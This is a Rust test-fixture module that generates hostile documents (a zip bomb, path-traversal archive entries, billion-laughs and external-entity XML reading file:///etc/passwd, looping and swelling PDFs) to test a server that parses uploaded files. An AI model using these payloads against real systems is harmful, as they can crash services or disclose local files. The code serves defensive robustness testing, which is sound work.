//! Files made to do harm: what a server that takes documents from strangers is sent one day. All of them are made here, by
//! the page or by the megabyte; none was found anywhere.

use std::io::{Cursor, Write};

use zip::CompressionMethod;
use zip::write::{SimpleFileOptions, ZipWriter};

/// A file, with a name for what it does.
pub struct Hostile {
    /// What it does.
    pub name: &'static str,
    /// Its bytes.
    pub bytes: Vec<u8>,
}

/// Makes one file.
type Make = fn() -> Vec<u8>;

/// All of them.
#[must_use]
pub fn all() -> Vec<Hostile> {
    let files: [(&'static str, Make); 20] = [
        ("a zip bomb", zip_bomb),
        ("sixty thousand parts", many_parts),
        ("paths out of the archive", paths_outside),
        ("an archive cut in half", || cut(docx(&body("<w:p><w:r><w:t>cut</w:t></w:r></w:p>")))),
        ("an archive whose directory lies", lying_directory),
        ("entities within entities", entities),
        ("an entity that is a file", || external("file:///etc/passwd")),
        ("an entity that is elsewhere", || external("http://127.0.0.1:9/x")),
        ("four hundred thousand elements within each other", || docx(&deep("<w:sdt>", 400_000))),
        ("attributes without end", attributes),
        ("ten thousand pages", || pages(10_000)),
        ("pages that hold themselves", looping_pages),
        ("a picture that draws itself", looping_form),
        ("a table of places that leads to itself", looping_table),
        ("a stream that swells", swelling_stream),
        ("a font that is none", broken_font),
        ("lists within lists", || [b"%PDF-1.7\n1 0 obj\n".as_slice(), &[b'['].repeat(3_000_000), END].concat()),
        ("a PDF document of noise", || [b"%PDF-1.7\n".as_slice(), &noise(200_000), END].concat()),
        ("a web page within itself", || ["<html><body>", &"<div>".repeat(1_000_000)].concat().into_bytes()),
        ("a table within tables", || ["<html><body>", &"<table><tr><td>".repeat(200_000)].concat().into_bytes()),
    ];
    files.into_iter().map(|(name, make)| Hostile { name, bytes: make() }).collect()
}

const END: &[u8] = b"\nendobj\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n";

const TYPES: &str = concat!(
    r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">"#,
    r#"<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>"#,
    r#"<Override PartName="/word/document.xml" ContentType="#,
    r#""application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#
);

const RELATIONSHIPS: &str = concat!(
    r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">"#,
    r#"<Relationship Id="r1" Target="word/document.xml" Type="#,
    r#""http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>"#
);

const WORD: &str = r#"xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main""#;

/// A Word document with this as its main part.
#[must_use]
pub fn docx(main: &str) -> Vec<u8> {
    packed(&[("word/document.xml", main.as_bytes())])
}

/// The main part of a Word document with this body.
#[must_use]
pub fn body(inside: &str) -> String {
    format!("<?xml version=\"1.0\"?><w:document {WORD}><w:body>{inside}</w:body></w:document>")
}

/// A Word document of these parts, with those that each has.
#[must_use]
pub fn packed(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut archive = begun();
    for (name, bytes) in parts {
        part(&mut archive, name, bytes);
    }
    archive.finish().expect("memory takes an archive").into_inner()
}

/// An OpenDocument text with this content.
#[must_use]
pub fn open_document(content: &[u8]) -> Vec<u8> {
    let mut archive = ZipWriter::new(Cursor::new(Vec::new()));
    part(&mut archive, "mimetype", b"application/vnd.oasis.opendocument.text");
    part(&mut archive, "content.xml", content);
    archive.finish().expect("memory takes an archive").into_inner()
}

fn begun() -> ZipWriter<Cursor<Vec<u8>>> {
    let mut archive = ZipWriter::new(Cursor::new(Vec::new()));
    part(&mut archive, "[Content_Types].xml", TYPES.as_bytes());
    part(&mut archive, "_rels/.rels", RELATIONSHIPS.as_bytes());
    archive
}

fn part(archive: &mut ZipWriter<Cursor<Vec<u8>>>, name: &str, bytes: &[u8]) {
    let deflated = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
    archive.start_file(name, deflated).expect("a part has a name");
    archive.write_all(bytes).expect("memory takes a part");
}

/// Half a gigabyte of one paragraph, over and over, in half a megabyte.
fn zip_bomb() -> Vec<u8> {
    let mut archive = begun();
    part(&mut archive, "word/document.xml", body("").split("</w:body>").next().unwrap_or_default().as_bytes());
    let piece = "<w:p><w:r><w:t>more</w:t></w:r></w:p>".repeat(30_000);
    for _ in 0..512 {
        archive.write_all(piece.as_bytes()).expect("memory takes a part");
    }
    archive.finish().expect("memory takes an archive").into_inner()
}

fn many_parts() -> Vec<u8> {
    let stored = SimpleFileOptions::default().compression_method(CompressionMethod::Stored);
    let mut archive = begun();
    for number in 0..60_000 {
        archive.start_file(format!("word/media/{number}.png"), stored).expect("a part has a name");
    }
    part(&mut archive, "word/document.xml", body("").as_bytes());
    archive.finish().expect("memory takes an archive").into_inner()
}

fn paths_outside() -> Vec<u8> {
    let main = body("<w:p><w:r><w:t>URGENT ACTION</w:t></w:r></w:p>");
    let outside =
        ["../../../../../../tmp/clamor-escaped", "/tmp/clamor-escaped", "word/../../clamor-escaped", "C:\\clamor"];
    let mut parts: Vec<(&str, &[u8])> = outside.iter().map(|name| (*name, b"escaped".as_slice())).collect();
    parts.push(("word/document.xml", main.as_bytes()));
    packed(&parts)
}

fn cut(bytes: Vec<u8>) -> Vec<u8> {
    bytes[..bytes.len() / 2].to_vec()
}

/// The directory at the end says that the parts are larger than they are, and that there are more.
fn lying_directory() -> Vec<u8> {
    let mut bytes = docx(&body("<w:p/>"));
    let end = bytes.len();
    bytes[end - 14..end - 10].fill(0xff);
    let central = bytes.windows(4).position(|word| word == b"PK\x01\x02").expect("there is a directory");
    bytes[central + 20..central + 28].fill(0xfe);
    bytes
}

fn entities() -> Vec<u8> {
    let mut types = String::from("<!ENTITY a0 \"lol lol lol lol lol lol lol lol lol lol\">");
    for level in 1..12 {
        types += &format!("<!ENTITY a{level} \"{}\">", format!("&a{};", level - 1).repeat(10));
    }
    let main = body("<w:p><w:r><w:t>&a11;</w:t></w:r></w:p>");
    docx(&main.replacen("?>", &format!("?><!DOCTYPE w:document [{types}]>"), 1))
}

fn external(address: &str) -> Vec<u8> {
    let main = body("<w:p><w:r><w:t>before &secret; after</w:t></w:r></w:p>");
    let types = format!("?><!DOCTYPE w:document [<!ENTITY secret SYSTEM \"{address}\">]>");
    docx(&main.replacen("?>", &types, 1))
}

fn deep(element: &str, times: usize) -> String {
    body(&element.repeat(times))
}

fn attributes() -> Vec<u8> {
    let many: String = (0..300_000).map(|number| format!(" w:a{number}=\"{number}\"")).collect();
    docx(&body(&format!("<w:p{many}/>")))
}

/// A PDF document of these objects, the first of which is its root.
#[must_use]
pub fn pdf(objects: &[Vec<u8>]) -> Vec<u8> {
    let mut bytes = b"%PDF-1.7\n".to_vec();
    let mut places = Vec::new();
    for (object, number) in objects.iter().zip(1..) {
        places.push(bytes.len());
        bytes.extend_from_slice(format!("{number} 0 obj\n").as_bytes());
        bytes.extend_from_slice(object);
        bytes.extend_from_slice(b"\nendobj\n");
    }
    let table = bytes.len();
    bytes.extend_from_slice(format!("xref\n0 {}\n0000000000 65535 f \n", places.len() + 1).as_bytes());
    for place in &places {
        bytes.extend_from_slice(format!("{place:010} 00000 n \n").as_bytes());
    }
    let size = places.len() + 1;
    bytes.extend_from_slice(format!("trailer<</Root 1 0 R/Size {size}>>\nstartxref\n{table}\n%%EOF\n").as_bytes());
    bytes
}

/// A stream with its length.
#[must_use]
pub fn stream(about: &str, bytes: &[u8]) -> Vec<u8> {
    [format!("<</Length {}{about}>>\nstream\n", bytes.len()).as_bytes(), bytes, b"\nendstream"].concat()
}

/// Text on a page.
#[must_use]
pub fn shown(text: &str) -> Vec<u8> {
    stream("", format!("BT /F1 12 Tf 72 700 Td ({text}) Tj ET").as_bytes())
}

fn pages(count: usize) -> Vec<u8> {
    let kids: Vec<String> = (0..count).map(|page| format!("{} 0 R", page + 5)).collect();
    let mut objects = vec![
        b"<</Type/Catalog/Pages 2 0 R>>".to_vec(),
        format!("<</Type/Pages/Count {count}/Kids[{}]>>", kids.join(" ")).into_bytes(),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>".to_vec(),
        shown("URGENT ACTION"),
    ];
    let page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<</Font<</F1 3 0 R>>>>/Contents 4 0 R>>";
    objects.extend(std::iter::repeat_n(page.to_vec(), count));
    pdf(&objects)
}

fn one_page(resources: &str, content: Vec<u8>, more: &[Vec<u8>]) -> Vec<u8> {
    let page = format!("<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<<{resources}>>/Contents 4 0 R>>");
    let mut objects = vec![
        b"<</Type/Catalog/Pages 2 0 R>>".to_vec(),
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>".to_vec(),
        page.into_bytes(),
        content,
    ];
    objects.extend_from_slice(more);
    pdf(&objects)
}

fn looping_pages() -> Vec<u8> {
    pdf(&[
        b"<</Type/Catalog/Pages 2 0 R/Outlines 3 0 R>>".to_vec(),
        b"<</Type/Pages/Count 9999/Kids[2 0 R 3 0 R 2 0 R]/Parent 3 0 R>>".to_vec(),
        b"<</Type/Pages/Count 9999/Kids[2 0 R 3 0 R]/Parent 2 0 R/First 3 0 R/Next 3 0 R>>".to_vec(),
    ])
}

/// A form that draws itself twice: without a bound that is two to the power of its depth.
fn looping_form() -> Vec<u8> {
    let form = |content: &str| stream("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources 7 0 R", content.as_bytes());
    one_page(
        "/XObject<</A 5 0 R/B 6 0 R>>",
        stream("", b"/A Do /B Do"),
        &[form("/B Do /B Do /A Do"), form("/A Do /A Do /B Do"), b"<</XObject<</A 5 0 R/B 6 0 R>>>>".to_vec()],
    )
}

fn looping_table() -> Vec<u8> {
    let text = String::from_utf8_lossy(&pages(1)).into_owned();
    let table = text.rfind("xref\n0").unwrap_or_default();
    text.replace("/Size", &format!("/Prev {table}/XRefStm {table}/Size")).into_bytes()
}

/// Half a gigabyte of text in a page's content, packed twice.
fn swelling_stream() -> Vec<u8> {
    let line = b"BT /F1 1 Tf (more) Tj ET\n".repeat(40_000);
    let mut once = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    for _ in 0..512 {
        once.write_all(&line).expect("memory takes it");
    }
    let once = once.finish().expect("memory takes it");
    let mut twice = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    twice.write_all(&once).expect("memory takes it");
    let twice = twice.finish().expect("memory takes it");
    let font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>".to_vec();
    one_page("/Font<</F1 5 0 R>>", stream("/Filter[/FlateDecode/FlateDecode]", &twice), &[font])
}

fn broken_font() -> Vec<u8> {
    let font = b"<</Type/Font/Subtype/TrueType/BaseFont/X/FirstChar 0/LastChar 255/Widths 6 0 R/FontDescriptor 6 0 R>>";
    let about = b"<</Type/FontDescriptor/FontName/X/Flags 4/FontFile2 7 0 R/FontFile3 7 0 R/FontFile 7 0 R>>";
    let sly = [b"\x00\x01\x00\x00\xff\xff\x00\x80\x00\x03\x00\x70glyf".as_slice(), &noise(4096)].concat();
    one_page("/Font<</F1 5 0 R>>", shown("words in a broken font"), &[font.to_vec(), about.to_vec(), stream("", &sly)])
}

/// Bytes that look like nothing, the same each time (xorshift, Marsaglia 2003).
fn noise(count: usize) -> Vec<u8> {
    let mut dice = 0x2545_f491_4f6c_dd1d_u64;
    let mut next = || {
        dice ^= dice << 13;
        dice ^= dice >> 7;
        dice ^= dice << 17;
        dice.to_be_bytes()[0]
    };
    (0..count).map(|_| next()).collect()
}
